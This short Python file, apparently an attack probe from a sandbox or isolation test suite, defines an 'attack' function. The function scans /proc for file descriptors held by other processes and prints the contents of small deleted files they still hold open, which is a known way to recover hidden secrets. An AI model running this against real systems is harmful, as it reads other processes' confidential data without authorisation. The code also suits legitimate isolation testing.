"""Opens the files that other processes hold open, including a deleted one."""

import os


def attack(facts: dict[str, str]) -> None:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            held = os.listdir(f"/proc/{pid}/fd") if int(pid) != os.getpid() else []
        except OSError:
            continue
        for number in held:
            path = f"/proc/{pid}/fd/{number}"
            try:
                if os.readlink(path).endswith("(deleted)") and os.stat(path).st_size < 1 << 16:
                    print(open(path, errors="replace").read())
            except OSError:
                continue
